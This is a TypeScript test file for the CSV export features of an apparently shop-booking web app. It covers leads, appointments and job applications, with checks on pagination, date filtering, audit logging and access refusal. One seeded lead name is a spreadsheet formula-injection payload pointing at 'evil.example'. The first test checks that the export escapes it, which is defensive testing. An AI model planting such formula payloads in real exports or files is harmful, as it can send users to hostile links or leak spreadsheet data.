import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { desc } from 'drizzle-orm';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { auditEntries } from '#src/db/schema/audit.ts';
import { leads } from '#src/db/schema/leads.ts';
import { seedCatalog, seedVehicles } from '#src/db/seeds/catalog.ts';
import catalogFile from '#src/db/seeds/demo/catalog.json' with { type: 'json' };
import jobsFile from '#src/db/seeds/demo/copy/jobs.json' with { type: 'json' };
import { seedJobs } from '#src/db/seeds/records.ts';
import vehicles from '#src/db/seeds/reference/vehicles.json' with { type: 'json' };
import { seedBookingShop } from '#tests/factories/booking-shop.ts';
import { createTestContext } from '#tests/factories/context.ts';
import { leaveEverything } from '#tests/factories/known-person.ts';
import { asStaff } from '#tests/factories/staff.ts';
import { openTestDatabase } from '#tests/setup/database.ts';
import { exportApplications, exportAppointments, exportLeads } from './index.server.ts';

// Runs on both engines: time zones in SQL.

const database = await openTestDatabase();
const { db } = database;
const visitor = createTestContext(db, { actor: { kind: 'visitor' } });
const desk = asStaff(visitor, 'front-desk', 'Lupita');
const everything = { search: '', kind: 'all', stage: 'all' } as const;

beforeAll(async () => {
  const ctx = createTestContext(db);
  await seedVehicles(ctx, vehicles);
  await seedCatalog(ctx, catalogFile);
  await seedBookingShop(db);
  await seedJobs(ctx, jobsFile);
  await leaveEverything(visitor, {
    name: '=HYPERLINK("http://evil.example","Dana, "&A1)',
    email: 'dana@example.org',
    phone: '(602) 555-0177',
    startsAt: '2026-11-24T10:00-07:00',
  });
});
afterAll(() => database.close());

async function rowsOf(
  file: Promise<ReadableStream<Uint8Array>>,
): Promise<Record<string, string>[]> {
  const bytes = await new Response(await file).bytes();
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parse(bytes, { bom: true, columns: true });
}

test('leads come as the list shows them, and no name runs as a formula', async () => {
  const rows = await rowsOf(exportLeads(desk, everything));
  const lead = rows.find(({ Kind }) => Kind === 'build');
  expect(lead).toMatchObject({
    Number: expect.stringMatching(/^IR-\d+$/),
    Name: `'=HYPERLINK("http://evil.example","Dana, "&A1)`,
    Contact: '(602) 555-0177',
    About: '2021 Ford F-150',
    Stage: 'booked',
    Asked: '2026-11-21 12:00',
  });
  const messages = await rowsOf(exportLeads(desk, { ...everything, kind: 'message' }));
  expect(messages.map(({ Kind }) => Kind)).toEqual(['message']);
  const searched = await rowsOf(exportLeads(desk, { ...everything, search: 'nobody at all' }));
  expect(searched).toEqual([]);
  const [entry] = await db.select().from(auditEntries).orderBy(desc(auditEntries.id)).limit(1);
  expect(entry).toMatchObject({ action: 'leads.export', actorName: 'Lupita' });
  expect(JSON.stringify(entry?.detail)).not.toContain('nobody');
});

test('a list of more than one page comes whole, each row once', async () => {
  const many = Array.from({ length: 1_100 }, (_, index) => ({
    id: randomUUID(),
    kind: 'message' as const,
    name: `Visitor ${index}`,
    contact: `visitor-${index}@example.org`,
    contactKind: 'email' as const,
    locale: 'en',
  }));
  await db.insert(leads).values(many);
  const rows = await rowsOf(exportLeads(desk, { ...everything, search: 'visitor-' }));
  expect(new Set(rows.map(({ Id }) => Id))).toEqual(new Set(many.map(({ id }) => id)));
  expect(rows).toHaveLength(many.length);
});

test('appointments are narrowed by the days of the shop', async () => {
  const booked = await rowsOf(exportAppointments(desk, {}));
  expect(booked).toMatchObject([
    { Starts: '2026-11-24 10:00', Contact: 'dana@example.org', Minutes: '240', Cancelled: '' },
  ]);
  const days = (from: string, until: string) => rowsOf(exportAppointments(desk, { from, until }));
  expect(await days('2026-11-24', '2026-11-24')).toHaveLength(1);
  expect(await days('2026-11-25', '2026-12-24')).toHaveLength(0);
});

test('applications come with their job and stage, and say whether there is a resume', async () => {
  expect(await rowsOf(exportApplications(desk))).toMatchObject([
    { Job: 'service-advisor', Stage: 'new', Resume: 'yes', Contact: 'dana@example.org' },
  ]);
});

test('nobody takes a list that they may not read', async () => {
  const editor = asStaff(visitor, 'editor');
  const refused = { code: 'forbidden' };
  await expect(exportLeads(editor, everything)).rejects.toMatchObject(refused);
  await expect(exportAppointments(editor, {})).rejects.toMatchObject(refused);
  await expect(exportApplications(editor)).rejects.toMatchObject(refused);
});
